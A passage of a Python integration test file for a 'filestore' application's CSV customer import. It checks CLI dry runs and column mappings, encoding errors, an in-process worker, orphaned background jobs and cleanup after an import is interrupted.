        dry = run_cli(
            import_server, str(path), "--mapping", "name=full_name", "--dry-run", cwd=tmp_path
        )
        assert dry.returncode == 0, dry.stdout + dry.stderr
        assert printed_counts(dry.stdout + dry.stderr) == expected, dry.stderr
        assert "dry run" in dry.stdout + dry.stderr
        assert customer_count(import_server, t) == 0

        real = run_cli(
            import_server, str(path), "--mapping-json", '{"name": "full_name"}', cwd=tmp_path
        )
        assert real.returncode == 0, real.stdout + real.stderr
        assert printed_counts(real.stdout + real.stderr) == expected, real.stderr
        assert "line 302" in real.stdout + real.stderr  # header, 300 rows, then the bad one
        assert customer_count(import_server, t) == 300
        assert customers(api, f"cli7-{t}@example.com")[0]["full_name"] == "Cli 7"
        cli_jobs = [
            j
            for j in api.get("/files/jobs", params={"limit": 20}).json()
            if j["total_rows"] == 302 and j["file_upload_id"] is None
        ]
        assert len(cli_jobs) == 2

    def test_failed_import_exits_non_zero_with_the_reason(
        self, import_server: LiveServer, tmp_path: Path
    ) -> None:
        path = tmp_path / "cyrillic.csv"
        path.write_bytes("full_name,email\nИван Петров,ivan@example.com\n".encode("cp1251"))  # noqa: RUF001
        result = run_cli(import_server, str(path), cwd=tmp_path)
        assert result.returncode == 1, result.stdout + result.stderr
        assert "UTF-8" in result.stdout + result.stderr


class TestInProcessWorker:
    def test_in_process_worker_runs_imports_without_a_worker_process(
        self, postgres: Postgres, seaweed: SeaweedFS, start_filestore: ServerFactory
    ) -> None:
        env = production_env(postgres.create_database("filestore_inproc"))
        env["FILESTORE_IN_PROCESS_WORKER"] = "true"
        env.update(s3_env(seaweed))
        server = start_filestore(env)
        t = tag()
        job = import_csv(
            server.admin(), csv_text([person(t, 1, password=f"Inproc-{t}"), person(t, 2)])
        )
        assert counts(job) == (2, 2, 2, 0, 0)
        assert Api(server.base_url).login(f"p1-{t}@example.com", f"Inproc-{t}")


def test_no_orphan_processing_jobs(import_server: LiveServer) -> None:
    """After everything above, no import is left `processing` with no one working on it."""
    deadline = time.monotonic() + 30
    while True:
        rows = query(
            import_server,
            "SELECT id, status FROM background_jobs WHERE status IN ('pending', 'processing')",
        )
        if not rows or time.monotonic() > deadline:
            break
        time.sleep(0.5)
    assert rows == []


class TestInterruptions:
    def test_cli_import_interrupted_is_not_left_processing(
        self, import_server: LiveServer, tmp_path: Path
    ) -> None:
        t = tag()
        path = tmp_path / f"interrupt-{t}.csv"
        path.write_bytes(big_csv(t, 300_000))
        env = clean_environ()
        env.update(import_server.env)
        process = subprocess.Popen(
            [sys.executable, "-m", "filestore", "import", str(path)],
            cwd=tmp_path,
            env=env,
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
        )
        try:
            deadline = time.monotonic() + 60
            while True:
                rows = query(
                    import_server,
                    "SELECT id, status::text, processed_rows FROM "
                    "background_jobs WHERE params->>'source' = %s",
                    (f"cli:{path.name}",),
                )
                if rows and rows[0][1] == "processing" and rows[0][2] > 0:
                    break
                assert process.poll() is None, process.communicate()
                assert time.monotonic() < deadline, rows
                time.sleep(0.1)
            process.send_signal(signal.SIGINT)
            output, _ = process.communicate(timeout=60)
        finally:
            if process.poll() is None:
                process.kill()
                process.wait()
        assert process.returncode != 0
        [(job_id, status, processed)] = query(
            import_server,
            "SELECT id, status::text, processed_rows FROM background_jobs "
            "WHERE params->>'source' = %s",
            (f"cli:{path.name}",),
        )
        assert status in ("cancelled", "failed"), (status, output.decode(errors="replace")[-2000:])
        assert 0 < processed < 300_000
        [(successful, finished_at)] = query(
            import_server,
            "SELECT successful_rows, finished_at FROM background_jobs WHERE id = %s",
            (job_id,),
        )
        assert finished_at is not None
        assert successful == customer_count(import_server, t)
